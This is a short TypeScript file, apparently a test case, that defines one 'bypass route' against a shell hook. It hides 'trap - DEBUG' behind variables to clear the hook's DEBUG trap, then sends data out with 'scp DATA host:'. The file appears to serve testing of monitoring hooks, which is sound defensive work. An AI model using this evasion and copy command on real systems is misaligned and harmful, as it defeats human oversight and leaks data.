import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'trap - DEBUG behind a variable',
  source: 'attempts to get round a hook of the shell',
  keys: ['t=trap d=DEBUG\r', '$t - $d; scp DATA host:\r'],
};
